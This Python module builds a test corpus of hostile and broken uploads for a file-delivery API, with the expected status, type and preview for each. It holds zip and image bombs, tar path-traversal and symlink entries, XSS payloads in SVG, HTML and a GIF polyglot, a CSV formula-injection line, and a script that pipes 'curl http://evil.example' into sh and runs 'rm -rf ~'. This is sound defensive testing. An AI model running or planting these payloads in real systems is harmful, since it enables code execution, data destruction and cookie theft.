"""A generated corpus of hostile and broken uploads, and what the API must answer to each.

Data only, imported by ``test_corpus`` (the API) and ``test_corpus_shape`` (the corpus itself).
Every file is generated here, deterministically (fixed seeds, fixed timestamps), in well under
two seconds; none is over 1 MiB + 1 byte. The expectations assume the limits the corpus test
sets: ``HANDOVER_MAX_FILE_SIZE`` = 1 MiB and ``HANDOVER_MAX_DELIVERY_SIZE`` = 3 MiB.

Preview expectations are given only where the outcome is certain: "ready" for a sound file of a
kind that has a preview, "failed" where no decoder can make one (checked against libvips,
librsvg, PDFium, ffmpeg and zipfile), "none" for OTHER, and ``None`` (not checked) where a
decoder may reasonably go either way.
"""

import functools
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image, ImageDraw

MAX_FILE_SIZE = 1024 * 1024  # what the corpus test sets HANDOVER_MAX_FILE_SIZE to
MAX_DELIVERY_SIZE = 3 * 1024 * 1024
ZIP_DATE = (2024, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Case:
    id: str  # short slug, used as the pytest id
    filename: str  # the name sent in the multipart part (may itself be hostile)
    data: bytes  # the file's bytes
    status: int  # expected HTTP status of POST /api/v1/orders/{id}/deliveries
    error: str | None  # expected JSON "error" code when status >= 400
    preview: str | None  # when 201: "ready", "failed", "none", or None (not checked)
    kind: str | None  # when 201: the expected Kind value
    note: str  # one line: what the case attacks


def accepted(id: str, filename: str, data: bytes, kind: str, preview: str | None, note: str):
    return Case(id, filename, data, 201, None, preview, kind, note)


def refused(id: str, filename: str, data: bytes, status: int, error: str, note: str):
    return Case(id, filename, data, status, error, None, None, note)


# Pictures ----------------------------------------------------------------------------------


def _picture(fmt: str, size: tuple[int, int] = (96, 64), **params: object) -> bytes:
    image = Image.new("RGB", size, (30, 110, 200))
    ImageDraw.Draw(image).ellipse((8, 8, size[0] - 8, size[1] - 8), fill=(250, 200, 0))
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


@functools.cache
def png() -> bytes:
    return _picture("PNG")


@functools.cache
def jpeg() -> bytes:
    return _picture("JPEG", quality=85)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _deflate_zeros(size: int, *, wbits: int) -> bytes:
    """``size`` zero bytes compressed, built from one compressed megabyte repeated: after a full
    flush the compressor starts afresh, so equal input gives equal bytes and 100 MB of zeros
    cost one megabyte of compression instead of half a second."""
    block = 2**20
    whole, rest = divmod(size, block)
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    head = compressor.compress(b"") + compressor.flush(zlib.Z_SYNC_FLUSH)  # zlib header, if any
    repeated = compressor.compress(bytes(block)) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(bytes(rest)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()  # the final block, and the checksum of what the compressor saw
    if wbits > 0:  # zlib stream: replace the compressor's checksum with that of all the bytes
        end = end[:-4] + struct.pack(">I", _adler32_of_zeros(size))
    return head + repeated * whole + tail + end


def _adler32_of_zeros(size: int) -> int:
    return (size % 65521) << 16 | 1  # A stays 1; B adds A once per byte


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A complete, valid 1-bit PNG of ``width`` x ``height`` black pixels, about 50 KB on disk."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit grey
    raw = height * (1 + (width + 7) // 8)  # a filter byte and the packed pixels per row
    idat = _deflate_zeros(raw, wbits=15)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def gif_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A GIF whose screen and only frame claim 1.6 gigapixels, with a few bytes of pixel data."""
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    pixels = b"\x02\x02\x4c\x01\x00"  # LZW minimum code size 2; clear, one pixel, end
    return screen + frame + pixels + b"\x3b"


def gif_js_polyglot() -> bytes:
    """A GIF that is also JavaScript: its width, 10799, is the bytes "/*", so the header opens
    a comment that the bytes after the GIF trailer (";") close, followed by a statement."""
    image = Image.new("P", (0x2A2F, 400), 1)
    image.putpalette([255, 255, 255, 200, 40, 40] + [0] * 762)
    out = io.BytesIO()
    image.save(out, "GIF")
    data = out.getvalue()
    assert data.startswith(b"GIF89a/*") or data.startswith(b"GIF87a/*")
    return data + b"*/=alert(document.domain);//"


# PDF ------------------------------------------------------------------------------------------


def pdf(*, encrypt: bool = False, xref_shift: int = 0) -> bytes:
    """A one-page PDF with text, its cross-reference table exact unless ``xref_shift``."""
    content = b"BT /F1 24 Tf 36 100 Td (Handover test page) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    trailer = b"/Size 6 /Root 1 0 R"
    if encrypt:
        # The standard handler with a user password: without it, the document cannot be opened.
        noise = random.Random(7)
        o, u = noise.randbytes(32).hex().encode(), noise.randbytes(32).hex().encode()
        objects.append(b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -44 >>" % (o, u))
        trailer = b"/Size 7 /Root 1 0 R /Encrypt 6 0 R /ID [<%s> <%s>]" % (o[:32], o[:32])
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % (offset + xref_shift) for offset in offsets)
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref + xref_shift)
    return bytes(out)


# Archives -------------------------------------------------------------------------------------


def zip_of(*entries: tuple[str, bytes], first_stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for index, (name, content) in enumerate(entries):
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            stored = first_stored and index == 0
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


def zip_of_zeros(name: str = "zeros.bin", size: int = 100 * 10**6) -> bytes:
    """One entry of ``size`` zero bytes deflated to about a thousandth (a zip bomb's shape)."""
    data = _deflate_zeros(size, wbits=-15)
    crc = 0
    block = bytes(2**20)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(bytes(size % len(block)), crc)
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x5821, crc, len(data), size)
    raw = name.encode()
    local = b"PK\x03\x04" + fields + struct.pack("<HH", len(raw), 0) + raw
    central = b"PK\x01\x02" + struct.pack("<H", 20) + fields
    central += struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, 0) + raw
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local + data), 0)
    return local + data + central + end


def zip_broken_directory() -> bytes:
    data = zip_of(("a.txt", b"first file\n" * 50), ("b.txt", b"second file\n" * 50))
    at = data.rindex(b"PK\x01\x02")
    return data[:at] + b"XX\xff\xff" + data[at + 4 :]  # the last central directory entry


def tar_of(*members: tarfile.TarInfo | tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                archive.addfile(member)
                continue
            info = tarfile.TarInfo(member[0])
            info.size, info.mtime = len(member[1]), 1_700_000_000
            archive.addfile(info, io.BytesIO(member[1]))
    return out.getvalue()


def tar_hostile() -> bytes:
    link = tarfile.TarInfo("passwd-link")
    link.type, link.linkname, link.mtime = tarfile.SYMTYPE, "/etc/passwd", 1_700_000_000
    hard = tarfile.TarInfo("shadow-hardlink")
    hard.type, hard.linkname, hard.mtime = tarfile.LNKTYPE, "../../etc/shadow", 1_700_000_000
    return tar_of(
        link,
        hard,
        ("../../evil.sh", b"#!/bin/sh\necho owned\n"),
        ("/etc/cron.d/evil", b"* * * * * root true\n"),
        ("readme.txt", b"hello\n"),
    )


# Text and other -------------------------------------------------------------------------------


def text(lines: int = 20) -> bytes:
    return "".join(f"Line {n}: the delivered text, with ü and ✓.\n" for n in range(lines)).encode()


def text_of_size(size: int) -> bytes:
    line = b"0123456789 abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ\n"
    return (line * (size // len(line) + 1))[:size]


def billion_laughs(root: bytes) -> bytes:
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return b'<?xml version="1.0"?>\n<!DOCTYPE lolz [' + entities + b"]>\n" + root


ELF = b"\x7fELF\x02\x01\x01\0" + bytes(8) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40) + b"\x90" * 400
DOS_STUB = (
    b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode."
)
# A DOS header whose e_lfanew (at 0x3C) points to the PE header at 0x80.
DOS_HEADER = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(43) + b"\x80\0\0\0"
PE = (DOS_HEADER + DOS_STUB).ljust(0x80, b"\0") + b"PE\0\0\x64\x86" + bytes(300)
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(300)
JAVA_CLASS = b"\xca\xfe\xba\xbe\0\0\0\x41\0\x1d\x0a\0\x02\0\x03\x07" + bytes(200)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0" + bytes(100)
MSI_CLSID = bytes.fromhex("84100c0000000000c000000000000046")


def msi() -> bytes:
    """A compound file whose root storage says "Windows Installer database"."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[0x1A:0x20] = b"\x3e\0\x03\0\x09\0"  # version 3, 512-byte sectors
    root = bytearray(512)
    root[:10] = "Root Entry".encode("utf-16-le")
    root[0x50:0x60] = MSI_CLSID
    return bytes(header + root)


def ftyp(major: bytes, *brands: bytes) -> bytes:
    body = major + bytes(4) + b"".join(brands)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body


def ebml_webm() -> bytes:
    body = b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    body += b"\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body


def wav_huge_declared() -> bytes:
    """A WAV whose RIFF and data sizes claim 4 GB; 8000 bytes of silence follow."""
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    return (
        b"RIFF\xf0\xff\xff\xffWAVEfmt "
        + struct.pack("<I", len(fmt))
        + fmt
        + b"data\xf0\xff\xff\xff"
        + bytes(8000)
    )


def noise(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


# The cases --------------------------------------------------------------------------------


def build_cases() -> list[Case]:
    image, pdf_, audio, video = "image", "pdf", "audio", "video"
    text_, archive, other = "text", "archive", "other"
    ok_pdf = pdf()
    half_mib = MAX_FILE_SIZE // 2
    return [
        # Sound files: the baseline every hostile variant is measured against.
        accepted("png-ok", "picture.png", png(), image, "ready", "a plain PNG"),
        accepted("jpeg-ok", "photo.jpg", jpeg(), image, "ready", "a plain JPEG"),
        accepted("pdf-ok", "report.pdf", ok_pdf, pdf_, "ready", "a plain one-page PDF"),
        accepted("text-ok", "notes.txt", text(), text_, "ready", "plain UTF-8 text"),
        # Accepted, preview made, however hostile the content.
        accepted(
            "zip-bomb-like",
            "zeros.zip",
            zip_of_zeros(),
            archive,
            "ready",
            "100 MB of zeros in ~100 KB: the listing must not inflate it",
        ),
        accepted(
            "zip-traversal-names",
            "evil.zip",
            zip_of(("../../evil", b"x"), ("/etc/x", b"y"), ("ok/file.txt", b"z")),
            archive,
            "ready",
            "zip entries named ../../evil and /etc/x are listed (flagged), never extracted",
        ),
        accepted(
            "tar-symlink-dotdot",
            "evil.tar",
            tar_hostile(),
            archive,
            "ready",
            "tar with a symlink to /etc/passwd, a hard link, ../ and absolute names",
        ),
        accepted(
            "tar-gz",
            "bundle.tar.gz",
            gzip.compress(tar_of(("a.txt", b"hello\n"), ("b/c.txt", b"world\n")), mtime=0),
            archive,
            "ready",
            "a gzipped tar is an archive and is listed",
        ),
        accepted(
            "zip-5000-entries",
            "many.zip",
            zip_of(*((f"dir/file-{n:04}.txt", b"") for n in range(5000))),
            archive,
            "ready",
            "5000 entries: the listing is capped, the count goes on",
        ),
        accepted(
            "text-100k-lines",
            "lines.txt",
            "".join(f"{n}\n" for n in range(100_000)).encode(),
            text_,
            "ready",
            "100 000 short lines: only the first lines are shown",
        ),
        accepted(
            "text-long-line",
            "wide.txt",
            ("ü" * 300 + "\n").encode() * 3,
            text_,
            "ready",
            "a line of 300 two-byte characters",
        ),
        accepted(
            "text-named-jpg",
            "photo.jpg",
            text(),
            text_,
            "ready",
            "the name says JPEG, the bytes say text: content wins",
        ),
        accepted(
            "name-dotdot-path",
            "../../etc/passwd",
            b"root:x:0:0:root:/root:/bin/bash\n",
            text_,
            "ready",
            "a path in the name is reduced to its last part, passwd",
        ),
        accepted(
            "name-backslash-path",
            "..\\..\\windows\\win.ini",
            b"[fonts]\n",
            text_,
            "ready",
            "a Windows path in the name is reduced to win.ini",
        ),
        accepted(
            "name-255-chars",
            "n" * 251 + ".txt",
            text(),
            text_,
            "ready",
            "a name of exactly 255 characters is allowed",
        ),
        accepted(
            "name-unicode",
            "Résumé \u2013 日本語 ✓ (final).txt",
            text(),
            text_,
            "ready",
            "non-ASCII letters and symbols in a name are fine",
        ),
        accepted(
            "gif-js-polyglot",
            "avatar.gif",
            gif_js_polyglot(),
            image,
            "ready",
            "a GIF that is also JavaScript is an image, previewed and never served as script",
        ),
        accepted(
            "text-exactly-1mib",
            "big.txt",
            text_of_size(MAX_FILE_SIZE),
            text_,
            "ready",
            "a file of exactly the size limit passes",
        ),
        accepted(
            "xml-billion-laughs",
            "lol.xml",
            billion_laughs(b"<lolz>&lol9;</lolz>\n"),
            text_,
            "ready",
            "entity expansion bomb: XML is shown as text and never parsed",
        ),
        accepted(
            "csv-formula-injection",
            "export.csv",
            b"name,amount\n=cmd|' /C calc'!A0,1\n+HYPERLINK(\"http://evil\"),2\n",
            text_,
            "ready",
            "spreadsheet formulas in a CSV are just text in the preview",
        ),
        accepted(
            "shell-script",
            "install.sh",
            b"#!/bin/sh\ncurl http://evil.example | sh\nrm -rf ~\n",
            text_,
            "ready",
            "a script is text: delivering code is legitimate, it is never run",
        ),
        accepted(
            "text-terminal-escapes",
            "log.txt",
            b"ok\n\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\n\x08\x08\x08hidden\n",
            text_,
            "ready",
            "terminal escape sequences are valid UTF-8 text",
        ),
        accepted(
            "text-trojan-source",
            "check.py",
            'access = "user\u202e \u2066# admin\u2069 \u2066"\nif admin:\n    pass\n'.encode(),
            text_,
            "ready",
            "bidi controls inside text (Trojan Source) do not make it binary",
        ),
        accepted(
            "text-utf16",
            "windows.txt",
            ("\ufeff" + "Exported from Windows: Grüße\r\n" * 20).encode("utf-16-le"),
            text_,
            None,
            "UTF-16 with a BOM is text; whether the preview decodes it is not pinned here",
        ),
        accepted(
            "pdf-junk-before-header",
            "drawing.ai",
            b"junk before the header\n" * 17 + ok_pdf,
            pdf_,
            "ready",
            "a PDF whose header is 400 bytes in, as readers accept",
        ),
        # Accepted but download only: never rendered, so no preview at all.
        accepted(
            "html-script",
            "page.html",
            b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>",
            other,
            "none",
            "an HTML page with script is download only",
        ),
        accepted(
            "html-after-comment",
            "readme.txt",
            b"\xef\xbb\xbf  <!-- looks like notes -->\n<script>alert(1)</script>\n",
            other,
            "none",
            "HTML hidden behind a BOM, spaces and a comment, named .txt",
        ),
        accepted(
            "svg-script",
            "logo.svg",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"'
            b' width="64" height="64"><script>alert(document.cookie)</script></svg>',
            image,
            "ready",
            "an SVG with script is never rendered inline; its preview is drawn without it",
        ),
        accepted(
            "svg-billion-laughs",
            "lol.svg",
            billion_laughs(b'<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'),
            image,
            "failed",
            "an SVG with an entity bomb is refused before its entities are expanded",
        ),
        accepted(
            "ooxml-zip",
            "contract.docx",
            zip_of(
                ("[Content_Types].xml", b"<Types/>"),
                ("_rels/.rels", b"<Relationships/>"),
                ("word/document.xml", b"<w:document/>"),
                ("word/vbaProject.bin", noise(11, 2000)),
            ),
            other,
            "none",
            "a Word document (here with a macro part) is download only, not an archive",
        ),
        accepted(
            "epub",
            "book.epub",
            zip_of(
                ("mimetype", b"application/epub+zip"),
                ("OEBPS/chapter.xhtml", b"<html><script>alert(1)</script></html>"),
                first_stored=True,
            ),
            other,
            "none",
            "an EPUB (XHTML with script inside) is download only",
        ),
        accepted(
            "rtf",
            "letter.rtf",
            b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 01050000020000000b000000}}}",
            other,
            "none",
            "RTF with an embedded OLE object is download only",
        ),
        # Accepted, but no preview can be made.
        accepted(
            "png-bomb",
            "huge.png",
            png_bomb(),
            image,
            "failed",
            "a valid 20000 x 20000 PNG in 50 KB: 400 megapixels, refused before decoding",
        ),
        accepted(
            "gif-bomb-header",
            "huge.gif",
            gif_bomb(),
            image,
            "failed",
            "a GIF claiming 40000 x 40000 pixels with almost no data",
        ),
        accepted(
            "png-truncated",
            "cut.png",
            png()[:33],
            image,
            "failed",
            "the PNG signature and header, nothing else",
        ),
        accepted(
            "jpeg-truncated",
            "cut.jpg",
            jpeg()[: jpeg().index(b"\xff\xda")],
            image,
            "failed",
            "a JPEG cut before its first scan: tables, no pixels",
        ),
        accepted(
            "jpeg-body-garbage",
            "noise.jpg",
            jpeg()[:200] + noise(12, 4000),
            image,
            "failed",
            "a JPEG header followed by random bytes",
        ),
        accepted(
            "pdf-truncated",
            "cut.pdf",
            ok_pdf[:40],
            pdf_,
            "failed",
            "the PDF header and half of the first object",
        ),
        accepted(
            "pdf-garbage-body",
            "noise.pdf",
            b"%PDF-1.7\n" + noise(13, 20_000),
            pdf_,
            "failed",
            "a PDF header followed by random bytes",
        ),
        accepted(
            "pdf-broken-xref",
            "xref.pdf",
            pdf(xref_shift=37),
            pdf_,
            "ready",
            "every xref offset and startxref wrong: PDFium rebuilds the table, so it renders",
        ),
        accepted(
            "pdf-encrypted",
            "secret.pdf",
            pdf(encrypt=True),
            pdf_,
            "failed",
            "an /Encrypt dictionary with a user password nobody gave us",
        ),
        accepted(
            "mp4-garbage",
            "clip.mp4",
            ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41") + noise(14, 30_000),
            video,
            "failed",
            "an MP4 ftyp box followed by random bytes: no moov, no frames",
        ),
        accepted(
            "webm-garbage",
            "clip.webm",
            ebml_webm() + noise(15, 30_000),
            video,
            "failed",
            "a WebM EBML header followed by random bytes",
        ),
        accepted(
            "mp3-no-frames",
            "song.mp3",
            b"ID3\x04\0\0\0\0\x01\0" + bytes(30_000),
            audio,
            "failed",
            "an ID3 tag followed by zeros: not one MPEG frame",
        ),
        accepted(
            "wav-huge-declared-size",
            "long.wav",
            wav_huge_declared(),
            audio,
            "ready",
            "RIFF and data sizes claim 4 GB, 8 KB follow: ffmpeg plays the 0.5 s that exist",
        ),
        accepted(
            "zip-broken-directory",
            "broken.zip",
            zip_broken_directory(),
            archive,
            "failed",
            "a zip whose central directory is damaged cannot be listed",
        ),
        # Refused by content.
        refused("elf", "tool", ELF, 415, "unsupported_type", "a Linux executable"),
        refused("pe-exe", "setup.exe", PE, 415, "unsupported_type", "a Windows executable"),
        refused("macho", "app", MACHO, 415, "unsupported_type", "a macOS executable"),
        refused(
            "java-class", "Main.class", JAVA_CLASS, 415, "unsupported_type", "a compiled class"
        ),
        refused(
            "elf-named-jpg",
            "photo.jpg",
            ELF,
            415,
            "unsupported_type",
            "an executable with a picture's name",
        ),
        refused(
            "windows-lnk", "invoice.pdf.lnk", LNK, 415, "unsupported_type", "a Windows shortcut"
        ),
        refused("msi", "update.msi", msi(), 415, "unsupported_type", "a Windows installer"),
        refused(
            "random-bytes",
            "data.bin",
            noise(16, 100_000),
            415,
            "unsupported_type",
            "random bytes are no known type and not text",
        ),
        refused(
            "sqlite",
            "app.db",
            b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20" + bytes(4000),
            415,
            "unsupported_type",
            "a database file is not on the allowlist",
        ),
        refused(
            "text-nul-middle",
            "notes.txt",
            text(200) + b"\0" + text(200),
            415,
            "unsupported_type",
            "text with a NUL byte in the middle is binary",
        ),
        refused(
            "text-invalid-utf8-late",
            "late.txt",
            text_of_size(900 * 1024) + b"\xc3\x28" + text_of_size(50 * 1024),
            415,
            "unsupported_type",
            "text that stops being UTF-8 after 900 KB, well past the head",
        ),
        refused(
            "latin1-text",
            "legacy.txt",
            "Café crème, naïve résumé\n".encode("latin-1") * 100,
            415,
            "unsupported_type",
            "Latin-1 text is refused: only UTF-8 (or UTF-16 with a BOM) is text",
        ),
        refused(
            "utf16-lone-surrogate",
            "broken16.txt",
            b"\xff\xfe" + "abc".encode("utf-16-le") + b"\x00\xd8" + "def".encode("utf-16-le"),
            415,
            "unsupported_type",
            "UTF-16 with an unpaired surrogate is not text",
        ),
        refused("empty-file", "empty.txt", b"", 400, "empty_file", "a file of zero bytes"),
        # Refused by name, whatever the content.
        refused(
            "name-nul",
            "invoice\x00.png",
            png(),
            400,
            "bad_file_name",
            "a NUL byte in the name",
        ),
        refused(
            "name-rtl-override",
            "invoice\u202egnp.exe",
            png(),
            400,
            "bad_file_name",
            "a right-to-left override makes invoice.exe read as invoiceexe.png",
        ),
        refused(
            "name-isolate",
            "report\u2067fdp.exe\u2069.txt",
            text(),
            400,
            "bad_file_name",
            "a right-to-left isolate in the name",
        ),
        refused(
            "name-rlm",
            "\u200fphoto.png",
            png(),
            400,
            "bad_file_name",
            "an invisible right-to-left mark in the name",
        ),
        refused(
            "name-newline",
            "report\n.txt",
            text(),
            400,
            "bad_file_name",
            "a newline in the name (log and header injection)",
        ),
        refused(
            "name-c1-control",
            "file\x85name.txt",
            text(),
            400,
            "bad_file_name",
            "a C1 control character (NEL) in the name",
        ),
        refused(
            "name-del",
            "file\x7fname.txt",
            text(),
            400,
            "bad_file_name",
            "a DEL character in the name",
        ),
        refused(
            "name-300-chars",
            "x" * 296 + ".txt",
            text(),
            400,
            "bad_file_name",
            "a name of 300 characters",
        ),
        refused("name-dotdot", "..", text(), 400, "no_files", "a name that is only '..'"),
        refused("name-empty", "", text(), 400, "no_files", "an empty name: the part is dropped"),
        refused(
            "name-only-path",
            "../../",
            text(),
            400,
            "no_files",
            "a path with no last part reduces to nothing",
        ),
        # Refused by size.
        refused(
            "text-1mib-plus-1",
            "big.txt",
            text_of_size(MAX_FILE_SIZE + 1),
            413,
            "file_too_large",
            "valid text one byte over the file size limit",
        ),
        refused(
            "random-half-mib",
            "half.bin",
            noise(17, half_mib),
            415,
            "unsupported_type",
            "half a megabyte of random bytes: refused by content, not size",
        ),
    ]


CASES: list[Case] = build_cases()
